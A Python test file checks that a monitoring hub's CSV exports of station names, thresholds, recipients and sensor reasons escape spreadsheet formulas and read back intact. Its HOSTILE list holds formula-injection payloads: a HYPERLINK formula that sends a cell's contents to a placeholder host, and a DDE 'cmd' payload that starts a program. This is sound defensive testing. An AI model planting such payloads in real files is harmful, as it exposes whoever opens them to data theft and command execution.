"""Whatever a station is called or a box says, no CSV of the hub holds a formula, and our own reader reads it back."""

import ast
import csv
import io
import re
from pathlib import Path

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import hub
from hub import spreadsheet
from hub.api import readings
from hub.api.shapes.reading import ReadingStep
from hub.fleet.city_csv import KINDS, read_city_csv, write_city_csv
from hub.fleet.city_file import CityFile

SIGNS = "=+-@\t\r\n\0＝＋－＠"
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;1)",
    "\t=1",
    "'=1",
    "''=1",
    "x;=1+1",
    "x;'=1",
    "a\r\n=1",
]
WORDS = st.text(st.sampled_from(f"{SIGNS}';,ab \"1")) | st.text()


def parts(cell: str) -> list[str]:
    """Return the cells that spreadsheets of any country make of one."""
    return re.split("[;\t\r\n]", cell)


@given(text=WORDS)
@example(text=";\t'=")
def test_no_cell_begins_a_formula_and_every_text_comes_back(text: str) -> None:
    cell = spreadsheet.as_cell(text)
    assert not any(part.startswith(tuple(SIGNS)) for part in parts(cell))
    assert spreadsheet.as_meant(cell) == text


@pytest.mark.parametrize(
    "text", ["Wai Ruhu 1", "'t Huis", "it's", "a=b", "08-12", "wai-a; wai-b", "", "https://x/?a=1"]
)
def test_words_that_are_no_formula_stay_as_they_are(text: str) -> None:
    assert spreadsheet.as_cell(text) == spreadsheet.as_meant(text) == text


@pytest.mark.parametrize("name", HOSTILE)
def test_a_citys_own_names_go_out_as_text_and_come_back_as_they_were(tmp_path: Path, name: str) -> None:
    stations = [{"station": "wai-a", "name": f"x{name}", "offset_cm": -30.5, "river": name, "lat": -3.7, "lon": 128.2}]
    thresholds = [
        {"station": "wai-a", "version": 1, "raise_cm": [-10, 0, 10], "clear_cm": [-12, -2, 8], "author": name}
    ]
    recipients = [{"recipient": "x", "name": f"{name}.", "role": "rt", "channel": "webhook", "target": "http://a/"}]
    city = msgspec.convert({"stations": stations, "thresholds": thresholds, "recipients": recipients}, CityFile)
    for kind in ("stations", "thresholds", "recipients"):
        text = write_city_csv(city, kind)
        (row,) = csv.DictReader(io.StringIO(text, newline=""))
        for column in {"name", "river", "author"} & set(row):
            assert not any(part.startswith(tuple(SIGNS)) for part in parts(row[column])), row
        if kind == "stations":
            assert [row[column] for column in ("offset_cm", "lat", "lon")] == ["-30.5", "-3.7", "128.2"]
        if kind == "thresholds":
            assert row["raise_cm"] == "-10.0 0.0 10.0"
        file = tmp_path / f"{kind}.csv"
        file.write_text(text, encoding="utf-8", newline="")
        if name == name.strip():  # a file's own cells are taken without the spaces around them
            assert getattr(read_city_csv(file), kind) == getattr(city, kind)


def test_a_number_behind_an_apostrophe_is_no_number(tmp_path: Path) -> None:
    file = tmp_path / "city.csv"
    file.write_text("station,name,offset_cm\nwai-a,Wai A,'-3\n", encoding="utf-8")
    with pytest.raises(ValueError, match="offset_cm must be"):
        read_city_csv(file)


@pytest.mark.parametrize("reason", HOSTILE)
def test_what_a_box_gives_as_its_reason_is_text_and_its_numbers_are_numbers(reason: str) -> None:
    step = ReadingStep(at_ms=0, stage_cm=-3.7, min_cm=-4.0, max_cm=-3.0, flag=3, count=1, reason=reason)
    (row,) = csv.DictReader(io.StringIO(readings.csv_header() + readings.csv_line(step), newline=""))
    assert not any(part.startswith(tuple(SIGNS)) for part in parts(row["reason"]))
    assert spreadsheet.as_meant(row["reason"]) == reason
    assert (row["stage_cm"], row["min_cm"], row["max_cm"]) == ("-3.7", "-4", "-3")


def test_whoever_writes_a_csv_knows_of_formulas() -> None:
    writers = []
    for path in sorted(Path(hub.__file__).parent.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        if not re.search(r"csv\.(Dict)?[wW]riter\(|def csv_line", text):
            continue
        writers.append(path.stem)
        used = {node.attr for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Attribute)}
        assert "as_cell" in used, f"{path}: writes a CSV without hub.spreadsheet.as_cell"
    assert {"readings", "audit", "level_check", "city_csv"} <= set(writers)
    assert len(KINDS) == 7, "a new kind of entry: does it hold text that city_csv does not pass through _cell?"
